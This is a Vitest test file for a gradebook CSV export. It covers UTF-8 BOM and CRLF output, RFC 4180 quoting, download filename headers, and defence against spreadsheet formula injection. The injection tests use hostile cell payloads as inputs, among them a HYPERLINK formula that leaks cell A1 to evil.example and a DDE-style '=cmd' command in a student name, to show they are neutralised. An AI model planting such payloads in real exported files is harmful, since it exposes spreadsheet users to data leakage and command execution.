import { describe, expect, it } from "vitest";
import { attachmentDisposition, csvField, encodeCsv } from "@/lib/gradebook/csv";
import type { Gradebook } from "@/lib/gradebook/load-gradebook";
import { gradebookCsv } from "@/lib/gradebook/gradebook-csv";
import { GRADEBOOK_CSV_LABELS } from "../helpers/gradebook-labels";

describe("CSV encoding", () => {
  it("starts with a UTF-8 BOM and ends every row with CRLF", () => {
    const csv = encodeCsv([
      ["Name", "Score %"],
      ["王小明", "87.5"],
    ]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv).toBe("\uFEFFName,Score %\r\n王小明,87.5\r\n");
    expect(new TextEncoder().encode(csv).slice(0, 3)).toEqual(new Uint8Array([0xef, 0xbb, 0xbf]));
  });

  it("quotes fields with commas, quotes or line breaks and doubles the quotes (RFC 4180)", () => {
    expect(csvField("plain")).toBe("plain");
    expect(csvField("Smith, Jane")).toBe('"Smith, Jane"');
    expect(csvField('Jane "JJ" Smith')).toBe('"Jane ""JJ"" Smith"');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("cr\r")).toBe('"cr\r"');
    expect(csvField("")).toBe("");
  });
});

describe("CSV formula injection (OWASP)", () => {
  // Each character a spreadsheet reads as the start of a formula, or skips before one.
  const triggers = ["=", "+", "-", "@", "\t", "\r"];

  it.each(triggers.map((c) => [JSON.stringify(c), c]))(
    "prefixes text starting with %s with a single quote and quotes the cell",
    (_shown, c) => {
      const payload = `${c}HYPERLINK("http://evil.example/?"&A1,"Click")`;
      expect(csvField(payload)).toBe(`"'${payload.replaceAll('"', '""')}"`);
      expect(csvField(`${c}1+1`)).toBe(`"'${c}1+1"`);
    },
  );

  it("leaves text with a trigger character later on, and the app's numbers (negative ones too), as they were", () => {
    expect(csvField("Jean-Luc")).toBe("Jean-Luc");
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField("ann@example.com")).toBe("ann@example.com");
    expect(csvField(87.5)).toBe("87.5");
    expect(csvField(-1)).toBe("-1");
    expect(csvField(0)).toBe("0");
    expect(csvField(Number.NaN)).toBe("");
  });

  it("neutralises a hostile name and email in the gradebook file but keeps the scores numeric", () => {
    const labels = GRADEBOOK_CSV_LABELS;
    const submittedAt = new Date("2026-11-22T10:00:00Z");
    const book = {
      assignment: { title: { en: "Quiz", zh: "测验" } },
      questions: [{ id: "q1", title: "@SUM(1+1)", type: "single", facility: 1, discrimination: null }],
      students: [
        {
          userId: "u1",
          name: '=cmd|" /C calc"!A0',
          email: "-2+3@example.com",
          status: "submitted",
          attempts: 1,
          scorePercent: 100,
          timeTakenMs: 65_000,
          submittedAt,
          late: false,
          questionScores: [1],
        },
      ],
    } as unknown as Gradebook;
    const [header, row] = gradebookCsv(book, labels).split("\r\n");
    expect(header).toBe('\uFEFFName,Email,Status,Score %,Time,Submitted at,Late,"\'@SUM(1+1)"');
    expect(row).toBe(
      `"'=cmd|"" /C calc""!A0","'-2+3@example.com",Submitted,100,1:05,${submittedAt.toISOString()},no,1`,
    );
  });
});

describe("the download header", () => {
  it("gives an ASCII fallback name and the real name in filename*", () => {
    expect(attachmentDisposition("Week 1 quiz-gradebook.csv")).toBe(
      `attachment; filename="Week-1-quiz-gradebook.csv"; filename*=UTF-8''Week%201%20quiz-gradebook.csv`,
    );
    const zh = attachmentDisposition("第一周测验-gradebook.csv");
    expect(zh).toContain(`filename="gradebook.csv"`);
    expect(zh).toContain(`filename*=UTF-8''${encodeURIComponent("第一周测验")}-gradebook.csv`);
    expect(attachmentDisposition('a "quoted"; name.csv')).toContain(`filename="a-quoted-name.csv"`);
  });
});
